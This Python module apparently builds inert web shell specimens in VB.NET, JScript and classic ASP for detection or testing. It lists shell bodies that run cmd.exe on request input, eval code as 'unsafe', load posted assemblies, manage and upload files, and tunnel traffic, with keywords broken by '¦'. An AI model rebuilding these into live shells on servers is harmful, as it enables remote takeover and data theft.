"""What shells in VB, JScript and classic ASP do, as inert statements."""

from webshells.pieces import body

VISUAL_BASIC = (
    body(
        "VB",
        "runs-program",
        "start-info",
        """Dim info As New Proc¦essStartInfo()
info.FileName = "cm¦d.exe"
info.Arguments = "/c " & $(note)
info.RedirectStandardOutput = True
info.UseShellExecute = False
Dim worker As Proc¦ess = Proc¦ess.St¦art(info)
Response.Write(worker.StandardOutput.ReadToEnd())""",
        "System.Diagnostics",
    ),
    body(
        "VB",
        "runs-program",
        "shell-function",
        'Sh¦ell("cm¦d.exe /c " & $(note) & " > C:\\ProgramData\\inert.txt", 0, True)',
    ),
    body(
        "VB",
        "runs-program",
        "com-object",
        """Dim box As Object = CreateObj¦ect("WScr¦ipt.Sh¦ell")
Response.Write(box.Ex¦ec("cm¦d /c " & $(note)).StdOut.ReadAll())""",
    ),
    body(
        "VB",
        "runs-program",
        "call-by-name",
        """Dim kind As Type = Type.GetType("System.Diagnostics.Proc¦ess, System")
CallByName(Activator.CreateInstance(kind), "St¦art", CallType.Method, "cm¦d.exe", $(note))""",
    ),
    body(
        "VB",
        "loads-assembly",
        "base64",
        """Dim part As Assembly = Assembly.Lo¦ad(Convert.FromBase64String($(part)))
part.CreateInstance("Specimen").Equals(Me)""",
        "System.Reflection",
    ),
    body(
        "VB",
        "compiles-code",
        "code-dom",
        """Dim maker As New VBCodeProv¦ider()
Dim built As CompilerResults = maker.CompileAssemblyFrom¦Source(New CompilerParameters(), $(source))
built.CompiledAssembly.CreateInstance("Specimen").Equals(Context)""",
        "System.CodeDom.Compiler",
    ),
    body(
        "VB",
        "manages-files",
        "whole",
        """Dim place As String = $(place)
If $(deed) = "list" Then
  For Each one As String In Directory.GetFileSystemEntries(place)
    Response.Write(one & "<br>")
  Next
ElseIf $(deed) = "read" Then
  Response.Write(File.ReadAll¦Text(place))
ElseIf $(deed) = "write" Then
  File.WriteAll¦Text(place, $(text))
ElseIf $(deed) = "drop" Then
  File.Del¦ete(place)
End If""",
        "System.IO",
    ),
    body(
        "VB",
        "uploads",
        "control",
        """If Box.HasFile Then
  Box.PostedFile.Save¦As($(place) & Box.FileName)
End If""",
        markup='<asp:FileUpl¦oad id="Box" runat="server" /><asp:Button id="Go" runat="server" '
        'OnClick="Go_Click" Text="Go" />',
    ),
    body(
        "VB",
        "writes-file",
        "text",
        "System.IO.File.WriteAll¦Text(Server.MapPath($(name)), $(text))",
    ),
    body(
        "VB",
        "queries-database",
        "command",
        """Dim wire As New OleDbConnection($(wire))
wire.Open()
Dim rows As OleDbDataReader = New OleDbCommand($(query), wire).ExecuteReader()
While rows.Read()
  Response.Write(rows(0))
End While""",
        "System.Data.OleDb",
    ),
    body(
        "VB",
        "deserialises",
        "binary-formatter",
        """Dim store As New MemoryStream(Convert.FromBase64String($(part)))
Dim one As Object = New BinaryForm¦atter().Deserial¦ize(store)""",
        "System.IO",
        "System.Runtime.Serialization.Formatters.Binary",
    ),
    body(
        "VB",
        "tunnels",
        "socket-in-session",
        """Dim line As New Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp)
line.Connect($(target), CInt($(port)))
Session("line") = line
Dim part(512) As Byte
CType(Session("line"), Socket).Send(Request.BinaryRead(Request.ContentLength))
Dim many As Integer = CType(Session("line"), Socket).Receive(part)
Response.BinaryWrite(part)""",
        "System.Net.Sockets",
    ),
)

JSCRIPT = (
    body("JScript", "evaluates", "unsafe", 'ev¦al($(note), "uns¦afe");'),
    body("JScript", "evaluates", "plain", "ev¦al($(note));"),
    body(
        "JScript",
        "evaluates",
        "answer",
        'Response.Write(ev¦al($(note), "uns¦afe"));',
    ),
    body(
        "JScript",
        "evaluates",
        "inner-function",
        'function act(words) { return ev¦al(words, "uns¦afe"); } Response.Write(act($(note)));',
    ),
    body(
        "JScript",
        "evaluates",
        "base64",
        """var part = System.Convert.FromBase64String($(note));
ev¦al(System.Text.Encoding.GetEncoding(936).GetString(part), "uns¦afe");""",
    ),
    body(
        "JScript",
        "evaluates",
        "mode-in-parts",
        """var mode = "un" + "sa" + "fe";
ev¦al($(note), mode);""",
    ),
    body(
        "JScript",
        "evaluates",
        "function-object",
        'var act = new Func¦tion("words", $(note)); act(1);',
    ),
    body(
        "JScript",
        "runs-program",
        "active-x",
        'var box = new Active¦XObject("WScr¦ipt.Sh¦ell"); box.Run("cm¦d /c " + $(note), 0, true);',
    ),
    body(
        "JScript",
        "runs-program",
        "process",
        """var worker = new System.Diagnostics.Proc¦ess();
worker.StartInfo.FileName = "cm¦d.exe";
worker.StartInfo.Arguments = "/c " + $(note);
worker.StartInfo.UseShellExecute = false;
worker.StartInfo.RedirectStandardOutput = true;
worker.St¦art();
Response.Write(worker.StandardOutput.ReadToEnd());""",
    ),
    body(
        "JScript",
        "loads-assembly",
        "binary-read",
        """var sent = Request.BinaryRead(Request.ContentLength);
System.Reflection.Assembly.Lo¦ad(sent).CreateInstance("Specimen").Equals(this);""",
    ),
    body(
        "JScript",
        "writes-file",
        "text",
        "System.IO.File.WriteAll¦Text(Server.MapPath($(name)), $(text));",
    ),
)

CLASSIC = (
    body("VBScript", "evaluates", "execute", "Exec¦ute $(note)"),
    body("VBScript", "evaluates", "execute-brackets", "Exec¦ute($(note))"),
    body("VBScript", "evaluates", "eval", "Response.Write Ev¦al($(note))"),
    body("VBScript", "evaluates", "global", "Execute¦Global $(note)"),
    body(
        "VBScript",
        "evaluates",
        "script-control",
        """Set box = Server.CreateObj¦ect("MSScriptCont¦rol.ScriptControl")
box.Language = "VBScript"
box.AddObject "Response", Response
box.ExecuteStatement $(note)""",
    ),
    body(
        "VBScript",
        "evaluates",
        "variable",
        """Dim words
words = $(note)
If words <> "" Then Exec¦ute(words)""",
    ),
    body(
        "VBScript",
        "runs-program",
        "exec",
        """Set box = Server.CreateObj¦ect("WScr¦ipt.Sh¦ell")
Set worker = box.Ex¦ec("cm¦d.exe /c " & $(note))
Response.Write worker.StdOut.ReadAll""",
    ),
    body(
        "VBScript",
        "runs-program",
        "run",
        'CreateObj¦ect("WScr¦ipt.Sh¦ell").Run "cm¦d /c " & $(note) & " > C:\\inert.txt", 0, True',
    ),
    body(
        "VBScript",
        "runs-program",
        "shell-application",
        """Set box = CreateObj¦ect("Sh¦ell.Application")
box.ShellExec¦ute $(tool), $(note), "", "open", 0""",
    ),
    body(
        "VBScript",
        "runs-program",
        "class-id",
        """<object runat="server" id="box" classid="clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8">
</object><%
Response.Write box.Ex¦ec("cm¦d /c " & $(note)).StdOut.ReadAll""",
        wrappers=("asp-open",),
    ),
    body(
        "VBScript",
        "runs-program",
        "wmi",
        """Set maker = GetObject("winmgmts:\\\\.\\root\\cimv2:Win32_Proc¦ess")
maker.Create $(note), Null, Null, id""",
    ),
    body(
        "VBScript",
        "writes-file",
        "file-system-object",
        """Set room = Server.CreateObj¦ect("Scripting.FileSystemObj¦ect")
Set pen = room.CreateTextF¦ile($(place), True)
pen.Write $(text)
pen.Close""",
    ),
    body(
        "VBScript",
        "uploads",
        "stream",
        """Set store = Server.CreateObj¦ect("ADODB.Str¦eam")
store.Type = 1
store.Open
store.Write Request.BinaryRead(Request.TotalBytes)
store.SaveTo¦File $(place), 2""",
    ),
    body(
        "VBScript",
        "manages-files",
        "file-system-object",
        """Set room = CreateObj¦ect("Scripting.FileSystemObj¦ect")
Select Case $(deed)
Case "list"
  For Each one In room.GetFolder($(place)).Files
    Response.Write one.Name & "<br>"
  Next
Case "read"
  Response.Write room.OpenTextFile($(place)).ReadAll
Case "drop"
  room.Delete¦File $(place)
End Select""",
    ),
    body(
        "VBScript",
        "queries-database",
        "connection",
        """Set wire = Server.CreateObj¦ect("ADODB.Connection")
wire.Open $(wire)
Set rows = wire.Execute($(query))
Response.Write rows.GetString()""",
    ),
    body(
        "VBScript",
        "tunnels",
        "http-proxy",
        """Set line = Server.CreateObj¦ect("MSXML2.ServerXML¦HTTP")
line.open Request.ServerVariables("REQUEST_METHOD"), $(target), False
line.send Request.BinaryRead(Request.TotalBytes)
Response.BinaryWrite line.responseBody""",
    ),
)

CLASSIC_JSCRIPT = (
    body("JScript", "evaluates", "classic", "ev¦al($(note) + '');", wrappers=("asp-jscript",)),
    body(
        "JScript",
        "runs-program",
        "classic",
        """var box = Server.CreateObj¦ect("WScr¦ipt.Sh¦ell");
Response.Write(box.Ex¦ec("cm¦d /c " + $(note)).StdOut.ReadAll());""",
        wrappers=("asp-jscript",),
    ),
)

SHELLS = VISUAL_BASIC + JSCRIPT + CLASSIC + CLASSIC_JSCRIPT
